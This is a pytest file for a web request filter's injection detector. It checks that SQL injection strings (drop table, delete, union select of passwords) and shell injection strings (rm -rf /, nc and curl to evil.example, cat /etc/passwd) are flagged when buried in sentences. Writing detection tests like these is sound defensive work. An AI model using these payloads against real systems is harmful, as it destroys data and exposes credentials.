"""Words around an injection do not excuse it: a database and a shell do not read them."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

import json
from urllib.parse import quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guard_wsgi.detection import Inspection
from guard_wsgi.detection.decoding.commands import injected_command
from guard_wsgi.detection.decoding.statements import injected_statement
from guard_wsgi.detection.detector import Detector
from tests.detection.requests import environ

STATEMENTS = [
    "a '; delete from users; -- has arrived",
    "my order '; insert into users values(9,'x','y',1); -- has arrived already, because I asked",
    "Where is my order, please? '; drop table users; -- has arrived",
    "a ' or 1; -- has arrived",
    "a '; truncate users; --",
    "a '; pragma writable_schema=1; --",
    "'; update users set age=99; -- has arrived",
    "Hello ' union select name,pw from users -- thanks a lot",
    "ann' -- is my name",
    "ann'; -- is my name",
    "zed ' or id; -- my name is",
    "ann') -- is my name",
    "ann' # is my name",
    'shoes" or 1=1 -- are nice',
]
COMMANDS = [
    "Hello there && rm -rf / has arrived",
    "Hello there | nc evil.example 99",
    "My parcel ; cat /etc/passwd has arrived",
    "Some words ; curl http://evil.example/x and more words",
]


@pytest.fixture(scope="module")
def weighed() -> Inspection:
    return Detector().compile()


@pytest.mark.parametrize("text", STATEMENTS)
@pytest.mark.parametrize("field", ["q", "name", "username", "comment"])
def test_a_statement_in_a_sentence_is_refused(weighed: Inspection, text: str, field: str) -> None:
    assert weighed.head(environ(query=f"{field}=" + quote_plus(text)))
    assert weighed.body(json.dumps({field: text}).encode(), content_type="application/json")


@pytest.mark.parametrize("text", COMMANDS)
@pytest.mark.parametrize("field", ["q", "name", "host"])
def test_a_command_in_a_sentence_is_refused(weighed: Inspection, text: str, field: str) -> None:
    assert weighed.head(environ(query=f"{field}=" + quote_plus(text)))
    assert weighed.body(json.dumps({field: text}).encode(), content_type="application/json")


@pytest.mark.parametrize(
    "text",
    [
        *("the dogs' -- all of them", "I don't know -- maybe", "rock 'n' roll -- the best"),
        *("it's 5' 6\" -- tall", "He said 'yes' -- and left", "O'Brien's book #1", "size 5' or 6' -- unsure"),
        *("don't panic; it's fine -- really", "'twas brillig -- and so", "Can't login; tried twice -- help"),
        *("C# isn't 'hard' -- or is it", "we're open 'til 5 -- or 6", "Try `stty 0' -- it works better."),
        *("read the docs; ls is fine", "Jane; php 8.2; node 20", "skills: bash; python3.11; perl", "I came; cat and dog"),
        *("Hello; python 3.11 is out", "we use node | react.js", "cats | dogs"),
    ],
)  # fmt: skip
def test_sentences_with_the_same_marks_pass(weighed: Inspection, text: str) -> None:
    assert not weighed.head(environ(query="name=" + quote_plus(text)))
    body = json.dumps({"comment": text}).encode()
    assert not weighed.body(body, content_type="application/json")


def test_people_write_about_commands_in_fields_for_texts(weighed: Inspection) -> None:
    body = json.dumps({"comment": "cd web && rm -rf build is slow here"}).encode()
    assert not weighed.body(body, content_type="application/json")


@pytest.mark.parametrize("sign", ["--", "#"])
@pytest.mark.parametrize("size", [3, 60, 800])
@pytest.mark.parametrize(
    "text",
    ["zed' ! union ! select ! id,secret ! from ! users ! --", "1' ! or ! 1 ! = ! 1 ! -- ", "1 ! union ! select ! 1,2"],
)  # fmt: skip
def test_comments_between_the_words_keep_nothing_apart(
    weighed: Inspection, text: str, size: int, sign: str
) -> None:
    payload = text.replace("!", f"{sign}{' lorem ipsum' * size}\n")
    assert weighed.head(environ(query="name=" + quote_plus(payload)))
    assert weighed.body(json.dumps({"text": payload}).encode(), content_type="application/json")


@given(st.text("'\"-#/* ;abor1=()\\\n", max_size=60))
@settings(max_examples=300, deadline=None, derandomize=True)
def test_what_is_left_is_part_of_the_text_from_a_quote_to_a_comment(text: str) -> None:
    left = injected_statement(text)
    if left is not None:
        assert left in text
        assert left[0] in "'\""
        assert left.endswith(("--", "#", "/*"))


@given(st.text("; |&rmls-/ax.\n", max_size=60))
@settings(max_examples=300, deadline=None, derandomize=True)
def test_a_command_that_is_left_is_part_of_the_text(text: str) -> None:
    left = injected_command(text)
    if left is not None:
        assert left in text
        assert left[0] in ";|&"


@pytest.mark.parametrize("text", STATEMENTS)
def test_what_was_refused_is_refused_again(weighed: Inspection, text: str) -> None:
    # A part of a text that was found is not reported, and must not be remembered as harmless.
    for value in (text, text, text + " again"):
        assert weighed.head(environ(query="name=" + quote_plus(value)))
        twice = json.dumps([{"name": value}, {"name": value}]).encode()
        for _ in range(3):
            assert weighed.body(twice, content_type="application/json")
